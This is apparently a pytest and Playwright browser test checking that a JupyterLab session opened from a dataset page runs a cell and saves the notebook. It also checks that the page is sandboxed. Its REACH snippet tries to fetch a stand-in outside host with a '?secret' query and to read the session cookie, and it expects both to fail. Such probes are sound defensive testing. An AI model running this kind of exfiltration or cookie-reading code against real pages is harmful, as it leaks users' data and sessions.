"""JupyterLab in Chromium: opened from a dataset's page, a cell runs, the page reaches nothing but itself, it is kept."""

from __future__ import annotations

import shutil

import pytest

from tests import notebooks
from tests.browser import kit
from tests.node import running_node

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
    pytest.mark.skipif(
        bool(notebooks.missing(".lab", "jupyterlab")), reason=notebooks.missing(".lab", "jupyterlab")
    ),
]

REACH = """async () => {
  const said = [];
  for (const place of ["NODE/healthz", "https://elsewhere.example/?secret"]) {
    try { await fetch(place, {mode: "no-cors"}); said.push("reached"); } catch { said.push("refused"); }
  }
  said.push(document.cookie.includes("tsunagu") ? "seen" : "unseen");
  return said;
}"""


@pytest.fixture(scope="module")
def lab_node(tmp_path_factory):
    with running_node(tmp_path_factory.mktemp("lab") / "home", notebooks.settings()) as running:
        notebooks.lend(running, ".lab", notebooks.ROOMS / "notebooks" / "jupyterlab.lock")
        folder = tmp_path_factory.mktemp("measured")
        (folder / "a.csv").write_text("3\n1\n2\n")
        running.run("project", "create", "lab")
        running.run("push", str(folder), "lab/measured")
        running.run("freeze", "lab/measured")
        yield running


def test_a_cell_runs_in_the_browser(lab_node, chromium):
    context = chromium.new_context(locale="ja-JP", viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(60_000)
    kit.sign_in(page, lab_node, "owner@example.org")
    page.goto(f"{lab_node.url}/d/lab/measured/compute")
    assert not kit.violations(page)
    page.get_by_label("ノートブックを保存するデータセット").fill("lab/my-notebook")
    page.get_by_role("button", name="JupyterLab を開く").click()
    run = page.url.rsplit("/", 1)[1]
    way = page.get_by_role("link", name="JupyterLab を開く")
    way.wait_for()
    assert not kit.violations(page)
    with context.expect_page() as opened:
        way.click()
    lab = opened.value
    lab.set_default_timeout(60_000)
    faults = []
    lab.on("console", lambda line: faults.append(line.text) if "Content Security" in line.text else None)
    cell = lab.locator(".jp-Notebook .jp-CodeCell").first
    cell.wait_for()
    assert lab.url.startswith(f"http://{run.lower()}.localhost:")
    lab.get_by_text("Python 3 (ipykernel) | Idle").wait_for()
    cell.locator(".cm-content").click()
    lab.keyboard.press("Shift+Enter")
    cell.locator(".jp-OutputArea-output").first.wait_for()
    assert "a.csv" in cell.locator(".jp-OutputArea-output").first.inner_text()
    assert not faults, "JupyterLab itself keeps to the policy"
    assert lab.evaluate(REACH.replace("NODE", lab_node.url)) == ["refused", "refused", "unseen"]
    with lab.expect_response(lambda said: said.request.method == "PUT" and said.ok):
        lab.keyboard.press("Control+s")
    lab.close()
    page.get_by_role("button", name="停止して保存").click()
    page.get_by_text("利用者が停止しました").wait_for()
    assert page.get_by_role("link", name="lab/my-notebook").count() >= 1
    found = notebooks.wait_for(lab_node, run, {"succeeded", "failed"})
    assert found["version"] == 1
    assert not kit.violations(page)
    context.close()
